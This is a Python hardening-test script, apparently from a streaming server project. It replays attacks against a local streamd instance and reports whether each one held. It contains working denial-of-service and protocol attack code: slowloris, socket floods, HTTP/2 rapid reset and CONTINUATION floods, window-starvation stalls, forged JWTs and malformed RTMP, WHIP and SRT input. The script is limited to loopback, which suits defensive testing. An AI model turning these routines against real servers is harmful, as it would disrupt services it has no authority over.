#!/usr/bin/env python3
"""Replays the hardening issue's attacks against a running streamd and
reports what held. Loopback only, bounded in count and time. Floods come
from 100 loopback addresses (127.0.2.x) and the checks from 127.0.0.1: a
flood from one address only ever fills that address's own caps.

    python3 tools/hostile.py [--host 127.0.0.1] [--rtmp 1935] [--http 3333]
                             [--ice-tcp 3478] [--srt 9999] [--https 3334]
                             [--witness live/STREAM]
                             [--sockets 2000] [--slowloris 600] [--offers 100]
                             [--only ATTACK ...]

After each attack it checks that /healthz answers and, with --witness, that
the witness stream's LL-HLS playlist still advances. Exit status 0 when
every check held.
"""
import argparse
import base64
import hashlib
import hmac
import ipaddress
import json
import pathlib
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request

RESULTS = []


def report(attack, held, detail):
    RESULTS.append((attack, held, detail))
    print(f"{'HELD ' if held else 'BROKE'}  {attack}: {detail}", flush=True)


def http_get(base, path, headers=None, timeout=5):
    req = urllib.request.Request(base + path, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def server_ok(args):
    """(/healthz answers, the witness playlist advances)."""
    base = f"http://{args.host}:{args.http}"
    try:
        healthy = http_get(base, "/healthz")[0] == 200
    except OSError:
        healthy = False
    if not args.witness:
        return healthy, None
    try:
        status, master = http_get(base, f"/{args.witness}/llhls.m3u8")
        if status != 200:
            return healthy, False
        video = next(l for l in master.decode().splitlines() if l.startswith("video"))
        first = http_get(base, f"/{args.witness}/{video}")[1]
        deadline = time.time() + 10
        while time.time() < deadline:
            time.sleep(0.5)
            if http_get(base, f"/{args.witness}/{video}")[1] != first:
                return healthy, True
        return healthy, False
    except (OSError, StopIteration):
        return healthy, False


def check(args, attack, detail, ok=True):
    """Reports `attack` as held when `ok` (what the attack itself showed)
    and the server stayed healthy with its witness advancing."""
    healthy, witness = server_ok(args)
    held = ok and healthy and witness is not False
    more = f"; healthz {'ok' if healthy else 'FAILED'}"
    if witness is not None:
        more += f", witness {'advancing' if witness else 'STALLED'}"
    report(attack, held, detail + more)


def attacker(host, port, i, timeout=5):
    """A connection from the i-th attacking address (127.0.2.1 to
    127.0.2.100, all loopback), so the checks, from 127.0.0.1, are not
    caught by the per-address caps the attack runs into."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((f"127.0.2.{1 + i % 100}", 0))
    s.connect((host, port))
    return s


def closed_within(sock, seconds):
    sock.settimeout(seconds)
    try:
        while True:
            if not sock.recv(65536):
                return True
    except socket.timeout:
        return False
    except OSError:
        return True


def rtmp_handshake(host, port):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(b"\x03" + b"\x00" * 1536)
    got = b""
    while len(got) < 1 + 1536 * 2:
        chunk = s.recv(65536)
        if not chunk:
            raise OSError("closed during the handshake")
        got += chunk
    s.sendall(got[1 : 1 + 1536])
    return s


def chunk(csid, type_id, stream_id, payload):
    return (
        bytes([csid])
        + b"\x00\x00\x00"
        + len(payload).to_bytes(3, "big")
        + bytes([type_id])
        + struct.pack("<I", stream_id)
        + payload
    )


def attack_deep_amf(args):
    payload = b"\x02\x00\x07connect\x00" + struct.pack(">d", 1) + b"\x03\x00\x01a" * 5000
    s = rtmp_handshake(args.host, args.rtmp)
    s.sendall(chunk(2, 1, 0, struct.pack(">I", 65536)) + chunk(3, 20, 0, payload))
    closed = closed_within(s, 10)
    check(args, "RTMP: 35 KB AMF0 nested 5,000 deep", f"connection {'closed' if closed else 'LEFT OPEN'}")


def attack_oversized_header(args):
    s = rtmp_handshake(args.host, args.rtmp)
    s.sendall(b"\x04\x00\x00\x00" + (1 << 20).to_bytes(3, "big") + b"\x14" + struct.pack("<I", 0))
    closed = closed_within(s, 10)
    check(args, "RTMP: a command header claiming 1 MB", f"connection {'closed' if closed else 'LEFT OPEN'}")


def attack_never_publish(args):
    s = rtmp_handshake(args.host, args.rtmp)
    start = time.time()
    closed = closed_within(s, 40)
    check(args, "RTMP: handshake, then silence", f"closed after {time.time() - start:.1f} s" if closed else "LEFT OPEN for 40 s")


def attack_idle_sockets(args):
    ports = [("http", args.http), ("rtmp", args.rtmp)] + ([("ice-tcp", args.ice_tcp)] if args.ice_tcp else [])
    for name, port in ports:
        socks, refused = [], 0
        for i in range(args.sockets):
            try:
                socks.append(attacker(args.host, port, i))
            except OSError:
                refused += 1
        healthy, witness = server_ok(args)
        deadline = time.time() + 60
        still_open = 0
        for s in socks:
            if not closed_within(s, max(0.1, deadline - time.time())):
                still_open += 1
            s.close()
        held = healthy and witness is not False and still_open == 0
        report(
            f"{args.sockets} idle sockets on {name}",
            held,
            f"{len(socks)} connected, {refused} refused at connect, {still_open} left open after 60 s; "
            f"while held: healthz {'ok' if healthy else 'FAILED'}"
            + ("" if witness is None else f", witness {'advancing' if witness else 'STALLED'}"),
        )


def attack_slowloris(args):
    socks = []
    for i in range(args.slowloris):
        try:
            s = attacker(args.host, args.http, i)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    healthy, witness = server_ok(args)
    deadline = time.time() + 60
    alive = list(socks)
    while alive and time.time() < deadline:
        time.sleep(0.5)
        still = []
        for s in alive:
            try:
                s.send(b"X")
                try:
                    if s.recv(1024) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                still.append(s)
            except OSError:
                s.close()
        alive = still
    for s in alive:
        s.close()
    report(
        f"slowloris: {len(socks)} sockets trickling headers",
        healthy and witness is not False and not alive,
        f"{len(alive)} still open after 60 s; while held: healthz {'ok' if healthy else 'FAILED'}"
        + ("" if witness is None else f", witness {'advancing' if witness else 'STALLED'}"),
    )


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def attack_forged_tokens(args):
    base = f"http://{args.host}:{args.http}"
    claims = b64(json.dumps({"sub": "x", "exp": int(time.time()) + 600, "scope": "api"}).encode())
    none = b64(b'{"alg":"none","typ":"JWT"}')
    rs256 = b64(b'{"alg":"RS256","typ":"JWT"}')
    hs256 = b64(b'{"alg":"HS256","typ":"JWT"}')
    guessed = hmac.new(b"secret", f"{hs256}.{claims}".encode(), hashlib.sha256).digest()
    forged = {
        "alg none": f"{none}.{claims}.",
        "RS256 header": f"{rs256}.{claims}.{b64(b'x' * 32)}",
        "HS256 with a guessed key": f"{hs256}.{claims}.{b64(guessed)}",
        "garbage": "abc.def.ghi",
    }
    bad = [name for name, t in forged.items() if http_get(base, "/api/streams", {"authorization": f"Bearer {t}"})[0] != 401]
    check(args, "API: forged tokens", "all refused (401)" if not bad else f"ACCEPTED: {bad}")


def attack_ice_tcp_garbage(args):
    if not args.ice_tcp:
        return
    held = True
    for what, data in [
        ("not STUN", b"\x00\x10GET / HTTP/1.1\r\n\r\n"),
        ("an empty frame", b"\x00\x00"),
    ]:
        s = socket.create_connection((args.host, args.ice_tcp), timeout=5)
        s.sendall(data)
        if not closed_within(s, 5):
            held = False
            report(f"ICE-TCP: {what}", False, "LEFT OPEN for 5 s")
        s.close()
    check(args, "ICE-TCP: non-ICE input", "closed at once" if held else "some left open")


def ws_open(args, path, i):
    """A WebSocket (RFC 6455) from attacking address i: the upgrade, then
    the socket; None if the server refused the upgrade."""
    s = attacker(args.host, args.http, i)
    key = base64.b64encode(struct.pack(">QQ", i, 0xC0FFEE)).decode()
    s.sendall(
        f"GET {path} HTTP/1.1\r\nHost: {args.host}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        more = s.recv(4096)
        if not more:
            return None
        head += more
    if not head.startswith(b"HTTP/1.1 101"):
        s.close()
        return None
    return s


def ws_send_text(s, text):
    data = text.encode()
    mask = b"\x01\x02\x03\x04"
    header = bytes([0x81, 0x80 | len(data)]) if len(data) < 126 else bytes([0x81, 0x80 | 126]) + struct.pack(">H", len(data))
    s.sendall(header + mask + bytes(b ^ mask[j % 4] for j, b in enumerate(data)))


def ws_read_text(s):
    """The first text frame's payload (unfragmented, as streamd sends)."""
    def exactly(n):
        out = b""
        while len(out) < n:
            more = s.recv(n - len(out))
            if not more:
                raise OSError("closed")
            out += more
        return out
    while True:
        b0, b1 = exactly(2)
        n = b1 & 0x7F
        if n == 126:
            n = struct.unpack(">H", exactly(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", exactly(8))[0]
        payload = exactly(n)
        if b0 & 0x0F == 1:
            return payload.decode()


def attack_offer_flood(args):
    """Offers one address may hold unanswered are capped: each holds an
    ICE/DTLS session for ice_timeout."""
    if not args.witness:
        return
    offers = refused = other = 0
    held_sockets = []
    for _ in range(args.offers):
        s = ws_open(args, f"/{args.witness}", 0)
        if s is None:
            other += 1
            continue
        ws_send_text(s, json.dumps({"command": "request_offer"}))
        try:
            answer = json.loads(ws_read_text(s))
        except (OSError, ValueError):
            other += 1
            continue
        if answer.get("command") == "offer":
            offers += 1
            held_sockets.append(s)
        elif answer.get("code") == 429:
            refused += 1
            s.close()
        else:
            other += 1
            s.close()
    capped = refused > 0 and offers < args.offers
    check(
        args,
        f"{args.offers} unanswered WebRTC offers from one address",
        f"{offers} offers made, {refused} refused with 429, {other} other"
        + ("" if capped else " (NOT CAPPED)"),
        ok=capped,
    )
    for s in held_sockets:
        s.close()


# HTTP/2 over TLS (--https): raw frames, so the attacks can send what no
# well-behaved client library would.
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def h2_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_get(path, authority="localhost"):
    """A GET request's header block: :method GET, :scheme https (static
    table), :authority and :path as literals without indexing."""
    def literal(index, value):
        value = value.encode()
        assert len(value) < 127
        return bytes([index, len(value)]) + value
    return b"\x82\x87" + literal(1, authority) + literal(4, path)


class H2:
    """One HTTP/2 connection over TLS from attacking address i."""

    def __init__(self, args, i, settings=b""):
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE  # loopback, the server's own certificate
        ctx.set_alpn_protocols(["h2"])
        self.s = ctx.wrap_socket(attacker(args.host, args.https, i, timeout=10), server_hostname="localhost")
        if self.s.selected_alpn_protocol() != "h2":
            raise OSError("the server did not agree on HTTP/2 (ALPN)")
        self.buf = b""
        self.next_stream = 1
        self.goaway = None
        self.closed = False
        self.send(H2_PREFACE + h2_frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.s.sendall(data)

    def request(self, path, end_stream=True):
        n = self.next_stream
        self.next_stream += 2
        self.send(h2_frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), n, hpack_get(path)))
        return n

    def read(self, seconds):
        """Frames that arrive within `seconds` (SETTINGS and PINGs are
        answered); stops at a GOAWAY or the connection's end."""
        frames = []
        deadline = time.time() + seconds
        while not self.closed and self.goaway is None and time.time() < deadline:
            self.s.settimeout(max(0.01, deadline - time.time()))
            try:
                got = self.s.recv(65536)
            except socket.timeout:
                break
            except (OSError, ssl.SSLError):
                got = b""
            if not got:
                self.closed = True
                break
            self.buf += got
            while len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                kind, flags = self.buf[3], self.buf[4]
                stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
                payload, self.buf = self.buf[9 : 9 + length], self.buf[9 + length :]
                frames.append((kind, flags, stream, payload))
                if kind == SETTINGS and not flags & ACK:
                    self.send(h2_frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.send(h2_frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
        return frames

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 6: "FRAME_SIZE_ERROR", 11: "ENHANCE_YOUR_CALM"}


def h2_ending(c):
    if c.goaway is not None:
        return f"GOAWAY {H2_ERRORS.get(c.goaway, c.goaway)}"
    return "closed" if c.closed else "LEFT OPEN"


def h2_flood(c, batches, limit):
    """Sends `batches` (each (bytes, units)) until `limit` units, a
    GOAWAY or the connection's end; how many units were sent, and whether
    the server cut the flood off before the limit."""
    sent = 0
    try:
        for data, units in batches:
            if sent >= limit or c.goaway is not None or c.closed:
                break
            c.send(data)
            sent += units
            c.read(0.01)
    except OSError:
        c.closed = True
    c.read(5)
    cut_off = (c.goaway is not None or c.closed) and sent < limit
    c.close()
    return sent, cut_off


def attack_h2_rapid_reset(args):
    """CVE-2023-44487: streams opened and cancelled at once, as fast as
    the client can."""
    c = H2(args, 0)
    c.read(1)

    def batches():
        while True:
            batch = b""
            for _ in range(100):
                n = c.next_stream
                c.next_stream += 2
                batch += h2_frame(HEADERS, END_HEADERS | END_STREAM, n, hpack_get("/healthz"))
                batch += h2_frame(RST_STREAM, 0, n, struct.pack(">I", 8))  # CANCEL
            yield batch, 100

    sent, cut_off = h2_flood(c, batches(), 20000)
    check(args, "HTTP/2 rapid reset (20,000 streams opened and cancelled)",
          f"{h2_ending(c)} after {sent} streams sent", ok=cut_off)


def attack_h2_continuation(args):
    """A header block never ended: HEADERS without END_HEADERS, then
    CONTINUATION frames, up to 1 MB."""
    c = H2(args, 1)
    c.read(1)
    field = b"\x00\x03x-a\x64" + b"v" * 100
    first = h2_frame(HEADERS, END_STREAM, 1, field)
    more = h2_frame(CONTINUATION, 0, 1, field) * 10

    def batches():
        yield first, len(first)
        while True:
            yield more, len(more)

    sent, cut_off = h2_flood(c, batches(), 1 << 20)
    check(args, "HTTP/2 CONTINUATION flood (1 MB header block)",
          f"{h2_ending(c)} after {sent // 1024} KiB sent", ok=cut_off)


def h2_pinned(args, what, settings, grant=0):
    """`args.h2_stalled` connections, each with 16 requests for a large
    response, kept busy with a request every 300 ms and their pings
    answered, and granted `grant` bytes of connection window each time:
    the server must drop them (its http.send_timeout), not hold the
    responses for ever."""
    conns = [H2(args, 2 + i, settings) for i in range(args.h2_stalled)]
    for c in conns:
        for _ in range(16):
            c.request(args.big_path)
    start = time.time()
    while time.time() - start < 90 and any(not c.closed and c.goaway is None for c in conns):
        for c in conns:
            if not c.closed and c.goaway is None:
                try:
                    c.request("/healthz")
                    if grant:
                        c.send(h2_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", grant)))
                except OSError:
                    c.closed = True
                c.read(0.3 / len(conns))
    took = time.time() - start
    left = sum(1 for c in conns if not c.closed and c.goaway is None)
    for c in conns:
        c.close()
    check(args, f"HTTP/2: {len(conns)} connections x 16 responses {what}, kept busy",
          f"{len(conns) - left} closed within {took:.0f} s, {left} LEFT OPEN after 90 s" if left
          else f"all closed within {took:.0f} s", ok=left == 0)


def attack_h2_no_window(args):
    """Responses granted no stream window (SETTINGS_INITIAL_WINDOW_SIZE 0)."""
    h2_pinned(args, "given no window", struct.pack(">HI", 4, 0))


def attack_h2_connection_trickle(args):
    """Every stream's window as large as can be, and the connection's
    trickled: about 48 KiB per 30 s (a grant each round of at least
    300 ms), more than one response needs to count as moving, far less
    than 16 do."""
    h2_pinned(args, "sharing a trickle of connection window (about 48 KiB per 30 s)",
              struct.pack(">HI", 4, 0x7FFFFFFF), grant=16384 * 3 // 100)


def raw_http(args, i, method, path, body=b"", headers=None, timeout=10):
    """One HTTP/1.1 request from attacking address i: (status, headers
    as lower-case names, body)."""
    s = attacker(args.host, args.http, i, timeout=timeout)
    head = f"{method} {path} HTTP/1.1\r\nHost: {args.host}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n"
    for k, v in (headers or {}).items():
        head += f"{k}: {v}\r\n"
    try:
        s.sendall(head.encode() + b"\r\n" + body)
    except OSError:
        pass  # refused before the body was all sent: read the answer
    got = b""
    try:
        while True:
            part = s.recv(65536)
            if not part:
                break
            got += part
    except OSError:
        pass
    s.close()
    head, _, rest = got.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    try:
        status = int(lines[0].split(" ")[1])
    except (IndexError, ValueError):
        return 0, {}, got
    fields = dict(l.split(": ", 1) for l in lines[1:] if ": " in l)
    return status, {k.lower(): v for k, v in fields.items()}, rest


WHIP_OFFER = pathlib.Path(__file__).resolve().parent.parent / "fuzz/corpus/whip_offer/opus-h264"


def attack_whip_bad_offers(args):
    """Offers no WHIP client would send: each must get a 4xx, not a
    session, and the server stays healthy."""
    sdp = {"content-type": "application/sdp"}
    cases = [
        ("not SDP", b"GET / HTTP/1.1\r\n\r\n" * 10, sdp),
        ("SDP without media", b"v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n", sdp),
        ("a 1 MB offer", b"v=0\r\n" + b"a=x-junk:" + b"x" * (1 << 20) + b"\r\n", sdp),
        ("an offer as JSON", b'{"sdp": "v=0"}', {"content-type": "application/json"}),
        ("invalid UTF-8", b"v=0\r\n\xff\xfe\xfd\r\n", sdp),
    ]
    answers = []
    for i, (name, body, headers) in enumerate(cases):
        status = raw_http(args, 10 + i, "POST", "/live/hostile-whip/whip", body, headers)[0]
        answers.append(f"{name}: {status or 'no answer'}")
    ok = all(400 <= int(a.rsplit(": ", 1)[1]) < 500 for a in answers if not a.endswith("no answer"))
    ok = ok and not any(a.endswith("no answer") for a in answers)
    check(args, "WHIP: malformed offers", "; ".join(answers), ok=ok)


def attack_whip_flood(args):
    """Valid offers (a browser's) from one address, never connected:
    each would hold an ICE/DTLS session; the per-address cap refuses
    the rest with 429. The sessions made are deleted after."""
    offer = WHIP_OFFER.read_bytes()
    made, refused, other = [], 0, {}
    for n in range(args.whip_offers):
        status, headers, _ = raw_http(args, 40, "POST", f"/live/hostile-whip-{n}/whip", offer,
                                      {"content-type": "application/sdp"})
        if status == 201:
            made.append(headers.get("location", ""))
        elif status == 429:
            refused += 1
        else:
            other[status] = other.get(status, 0) + 1
    for location in made:
        if location.startswith("/"):
            raw_http(args, 40, "DELETE", location)
    capped = refused > 0 and len(made) < args.whip_offers
    check(args, f"WHIP: {args.whip_offers} offers from one address, never connected",
          f"{len(made)} sessions made, {refused} refused with 429, other {other or 'none'}"
          + ("" if capped else " (NOT CAPPED)"), ok=capped)


def attack_srt_garbage(args):
    """Datagrams no SRT peer would send, and handshake-shaped ones with
    nonsense fields, at the SRT port from 100 addresses."""
    import random
    rng = random.Random(7)
    sent = 0
    socks = []
    for i in range(100):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((f"127.0.2.{1 + i}", 0))
        socks.append(u)
    for n in range(args.srt_datagrams):
        if n % 2:
            data = rng.randbytes(rng.randrange(1, 1500))
        else:
            # A control packet (handshake, type 0) with random fields.
            data = struct.pack(">HHIII", 0x8000, 0, rng.getrandbits(32), rng.getrandbits(32), 0)
            data += rng.randbytes(rng.choice([0, 16, 48, 64, 200]))
        try:
            socks[n % 100].sendto(data, (args.host, args.srt))
            sent += 1
        except OSError:
            pass
    for u in socks:
        u.close()
    check(args, f"SRT: {args.srt_datagrams} malformed datagrams from 100 addresses", f"{sent} sent")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--rtmp", type=int, default=1935)
    p.add_argument("--http", type=int, default=3333)
    p.add_argument("--ice-tcp", type=int, default=3478)
    p.add_argument("--srt", type=int, default=9999, help="the SRT port (UDP); 0: no SRT attack")
    p.add_argument("--srt-datagrams", type=int, default=20000)
    p.add_argument("--whip-offers", type=int, default=30)
    p.add_argument("--https", type=int, help="the HTTPS port (HTTP/2 by ALPN): the HTTP/2 attacks need it")
    p.add_argument("--big-path", default="/vendor/hls.min.js", help="a large response, for the HTTP/2 window attack")
    p.add_argument("--h2-stalled", type=int, default=20, help="connections in the HTTP/2 window attack")
    p.add_argument("--witness", help="app/stream of a live stream that must stay served")
    p.add_argument("--sockets", type=int, default=2000)
    p.add_argument("--slowloris", type=int, default=600)
    p.add_argument("--offers", type=int, default=100)
    p.add_argument("--only", action="append", help="run only this attack (e.g. offer_flood); repeatable")
    args = p.parse_args()
    if not ipaddress.ip_address(socket.gethostbyname(args.host)).is_loopback:
        sys.exit("hostile.py attacks loopback only")
    args.sockets = min(args.sockets, 5000)
    args.slowloris = min(args.slowloris, 2000)
    args.offers = min(args.offers, 1000)
    args.h2_stalled = max(1, min(args.h2_stalled, 90))
    args.srt_datagrams = min(args.srt_datagrams, 200000)
    args.whip_offers = min(args.whip_offers, 200)
    for attack in [
        attack_deep_amf,
        attack_oversized_header,
        attack_forged_tokens,
        attack_ice_tcp_garbage,
        attack_offer_flood,
        attack_slowloris,
        attack_idle_sockets,
        attack_never_publish,
        attack_whip_bad_offers,
        attack_whip_flood,
        attack_srt_garbage,
        attack_h2_rapid_reset,
        attack_h2_continuation,
        attack_h2_no_window,
        attack_h2_connection_trickle,
    ]:
        if args.only and attack.__name__.removeprefix("attack_") not in args.only:
            continue
        if attack.__name__.startswith("attack_h2") and not args.https:
            print(f"NOT RUN {attack.__name__}: no --https port given", flush=True)
            continue
        if attack.__name__.startswith("attack_srt") and not args.srt:
            print(f"NOT RUN {attack.__name__}: --srt 0", flush=True)
            continue
        try:
            attack(args)
        except OSError as e:
            report(attack.__name__, False, f"could not run: {e}")
    broke = [r for r in RESULTS if not r[1]]
    print(f"\n{len(RESULTS) - len(broke)} of {len(RESULTS)} held")
    sys.exit(1 if broke else 0)


if __name__ == "__main__":
    main()
